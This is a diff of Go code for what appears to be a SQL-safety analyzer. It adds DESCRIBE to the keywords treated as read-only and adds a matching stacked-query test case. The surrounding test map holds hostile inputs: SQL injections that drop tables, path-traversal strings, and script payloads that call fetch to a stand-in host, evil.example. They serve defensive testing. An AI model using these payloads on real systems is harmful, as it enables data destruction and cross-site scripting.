@@ -551,7 +551,8 @@ var hostile = map[Kind][]string{
 		"SELECT 1; DROP TABLE t", "select 1; drop table t",
 		"SELECT * INTO t2 FROM t", "select * into t2 from t",
 		"EXPLAIN ANALYZE DELETE FROM t", "explain analyze delete from t",
-		"SHOW search_path; DROP TABLE t", "show search_path; drop table t"},
+		"SHOW search_path; DROP TABLE t", "show search_path; drop table t",
+		"DESCRIBE t; DROP TABLE t", "describe t; drop table t"},
 	Request: {"../admin", "x@evil.example", "x/../../admin", "1/../../admin", "x?admin=1", "%2e%2e/admin"},
 	Script:  {"x');fetch('//evil.example');('", `x");fetch("//evil.example");("`, "x`+fetch('//evil.example')+`", "1;fetch('//evil.example')"},
 }
@@ -954,7 +955,7 @@ func (s *fnState) uncleanedPrefixJudge(call *ssa.Call, prefix string) guardJudge
 
 // readKeywords are the first keywords of statements that read, as a
 // check of a statement's start writes them.
-var readKeywords = map[string]bool{"SELECT": true, "WITH": true, "EXPLAIN": true, "SHOW": true}
+var readKeywords = map[string]bool{"SELECT": true, "WITH": true, "EXPLAIN": true, "SHOW": true, "DESCRIBE": true}
 
 // readKeyword reports whether prefix is a keyword that starts a
 // statement that reads ("SELECT", "select"; a trailing space or
